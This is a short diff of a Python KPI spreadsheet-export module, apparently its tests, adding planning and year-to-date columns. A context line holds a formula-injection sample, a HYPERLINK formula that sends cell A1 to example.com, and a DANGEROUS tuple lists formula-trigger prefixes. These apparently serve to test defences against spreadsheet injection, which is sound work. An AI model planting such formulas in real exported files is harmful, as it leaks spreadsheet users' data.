@@ -38,11 +38,12 @@ HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 TEXT_COLUMNS = (
     *("department", "kpi_id", "name", "unit", "direction", "current_period"),
-    *("deadline", "status", "benchmark"),
+    *("deadline", "status", "benchmark", "goal"),
 )
 NUMBER_COLUMNS = (
     *("current", "target", "progress", "expected_progress", "forecast"),
     *("previous_difference", "previous_relative", "benchmark_difference", "benchmark_relative"),
+    *("plan", "plan_variance", "plan_relative", "ytd_actual", "ytd_plan", "margin"),
 )
 KEYS = [key for key, _label in COLUMNS]
 MONTHS = [dt.date(2026, m, 1) for m in range(1, 7)]
